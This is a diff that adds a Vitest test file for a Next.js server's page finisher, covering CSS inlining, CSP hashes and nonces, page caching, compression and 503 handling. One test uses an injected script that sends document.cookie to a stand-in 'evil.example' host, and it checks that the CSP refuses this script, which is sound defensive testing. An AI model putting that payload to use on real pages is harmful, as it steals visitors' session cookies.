@@ -1,0 +1,154 @@
+import { createHash } from 'node:crypto';
+import { IncomingMessage, ServerResponse } from 'node:http';
+import { Socket } from 'node:net';
+import { brotliDecompressSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { createPageFinisher, type PagePlan } from '@/server/http/finish-page';
+import { createFinishedPageCache } from '@/server/http/finished-page-cache';
+import { createPageCache } from '@/server/http/page-cache';
+import { SHARED_PAGE_CACHE_CONTROL } from '@/server/http/page-cache-headers';
+import { PLACEHOLDERS, visitorValues } from '@/server/http/page-template';
+import type { RequestContext } from '@/server/http/request-context';
+
+const sha = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
+const CSS_HREF = '/_next/static/chunks/site.css';
+const CSS = '.used{color:red}.unused{color:blue}';
+const flight = (nonce: string) => `<script nonce="${nonce}">self.__next_f.push([1,"page"])</script>`;
+
+/** A page as Next.js writes it: a stylesheet link in the head, scripts with the render's nonce. */
+const page = (nonce: string, body = '') =>
+  Buffer.from(
+    `<!DOCTYPE html><html><head><link rel="stylesheet" href="${CSS_HREF}"></head>` +
+      `<body><p class="used">Rohu</p>${body}${flight(nonce)}</body></html>`,
+  );
+
+function exchange(acceptEncoding = '') {
+  const request = new IncomingMessage(new Socket());
+  request.method = 'GET';
+  request.headers['accept-encoding'] = acceptEncoding;
+  const response = new ServerResponse(request);
+  response.statusCode = 200;
+  response.setHeader('Content-Type', 'text/html; charset=utf-8');
+  response.setHeader('Link', `<${CSS_HREF}>; rel=preload; as="style", </font.woff2>; rel=preload; as="font"`);
+  return { request, response };
+}
+
+function setUp() {
+  const refusals: number[] = [];
+  const finishPage = createPageFinisher({
+    readStylesheet: (href) => (href === CSS_HREF ? CSS : undefined),
+    finishedPages: createFinishedPageCache(),
+    https: false,
+    onRefused: (refused) => refusals.push(refused),
+  });
+  const pageCache = createPageCache({ lastChangeAt: () => 0 });
+  const context = (): RequestContext => ({ requestId: 'req-1234abcd', databaseUnavailable: false, startedAt: 1 });
+  return { finishPage, pageCache, refusals, context };
+}
+
+const scriptSources = (response: ServerResponse) =>
+  (String(response.getHeader('content-security-policy')).match(/script-src [^;]*/)?.[0] ?? '').split(' ');
+
+describe('finishing a page', () => {
+  it('a shared page: stylesheet inline, its render’s scripts hashed, kept for a minute, compressed once', async () => {
+    const { finishPage, pageCache, refusals, context } = setUp();
+    const fill = pageCache.startFill('/about');
+    const plan: PagePlan = { renderNonce: 'render-1', policyNonce: '', sharing: 'shared', fill };
+    const { request, response } = exchange('br');
+    const body = finishPage(request, response, context(), plan, page('render-1')).toString();
+
+    expect(body).toContain(`<style data-inlined-from="${CSS_HREF}">.used{color:red}</style>`);
+    expect(body).not.toContain('.unused');
+    expect(response.getHeader('link')).toBe('</font.woff2>; rel=preload; as="font"');
+    const sources = scriptSources(response);
+    expect(sources).toContain(sha('self.__next_f.push([1,"page"])'));
+    expect(sources.some((source) => source.startsWith("'nonce-"))).toBe(false);
+    expect(response.getHeader('cache-control')).toBe(SHARED_PAGE_CACHE_CONTROL);
+    expect(response.getHeader('x-page-cache')).toBe('MISS');
+    expect(pageCache.get('/about')?.body.toString()).toBe(body);
+    expect(refusals).toEqual([]);
+
+    // The same bytes again (from Next.js's cache): sent as the Brotli copy made in the background.
+    await expect
+      .poll(() => {
+        const again = exchange('br');
+        const sent = finishPage(
+          again.request,
+          again.response,
+          context(),
+          { ...plan, fill: undefined },
+          page('render-1'),
+        );
+        return again.response.getHeader('content-encoding') === 'br' && brotliDecompressSync(sent).toString();
+      })
+      .toBe(body);
+  });
+
+  it('a page for one visitor: its policy names the nonce, and nothing keeps it', () => {
+    const { finishPage, refusals, context } = setUp();
+    const { request, response } = exchange();
+    const plan: PagePlan = { renderNonce: 'visitor-1', policyNonce: 'visitor-1', sharing: undefined };
+    finishPage(request, response, context(), plan, page('visitor-1'));
+    expect(scriptSources(response)).toEqual(['script-src', "'self'", "'nonce-visitor-1'"]);
+    expect(response.hasHeader('x-page-cache')).toBe(false);
+    expect(refusals).toEqual([]);
+  });
+
+  it('a template: kept with its placeholders, sent filled with this visitor’s values and nonce', () => {
+    const { finishPage, pageCache, context } = setUp();
+    const visitor = visitorValues('a-test-secret-that-is-long-enough-0123456789');
+    const form = `<form><input value="${PLACEHOLDERS.formStartToken}"><input value="${PLACEHOLDERS.idempotencyKey}"></form>`;
+    const fill = pageCache.startFill('/order');
+    const { request, response } = exchange();
+    const plan: PagePlan = {
+      renderNonce: PLACEHOLDERS.nonce,
+      policyNonce: visitor.nonce,
+      sharing: 'template',
+      visitor,
+      fill,
+    };
+    const sent = finishPage(request, response, context(), plan, page(PLACEHOLDERS.nonce, form)).toString();
+    expect(sent).toContain(visitor.formStartToken);
+    expect(sent).toContain(`nonce="${visitor.nonce}"`);
+    expect(scriptSources(response)).toContain(`'nonce-${visitor.nonce}'`);
+    const kept = pageCache.get('/order');
+    expect(kept?.body.toString()).toContain(PLACEHOLDERS.formStartToken);
+    expect(kept?.headers.map(([name]) => name)).not.toContain('content-security-policy');
+    expect(kept?.template).toBeDefined();
+  });
+
+  it('a page that met an unreachable database: 503, its request id, kept by nobody', () => {
+    const { finishPage, pageCache, context } = setUp();
+    const fill = pageCache.startFill('/blog');
+    const { request, response } = exchange();
+    const unavailable = { ...context(), databaseUnavailable: true };
+    const body = finishPage(
+      request,
+      response,
+      unavailable,
+      { renderNonce: 'r', policyNonce: '', sharing: 'shared', fill },
+      page('r'),
+    );
+    expect(response.statusCode).toBe(503);
+    expect(response.getHeader('retry-after')).toBe('30');
+    expect(response.getHeader('cache-control')).toBe('no-store');
+    expect(body.toString()).toContain('<meta name="request-id" content="req-1234abcd">');
+    fill.abandon();
+    expect(pageCache.get('/blog')).toBeUndefined();
+  });
+
+  it('tells of an inline script that is neither the render’s nor the framework’s', () => {
+    const { finishPage, refusals, context } = setUp();
+    const { request, response } = exchange();
+    const injected = '<script>fetch("//evil.example/?c="+document.cookie)</script>';
+    finishPage(
+      request,
+      response,
+      context(),
+      { renderNonce: 'r2', policyNonce: '', sharing: 'shared' },
+      page('r2', injected),
+    );
+    expect(refusals).toEqual([1]);
+    expect(scriptSources(response)).not.toContain(sha('fetch("//evil.example/?c="+document.cookie)'));
+  });
+});
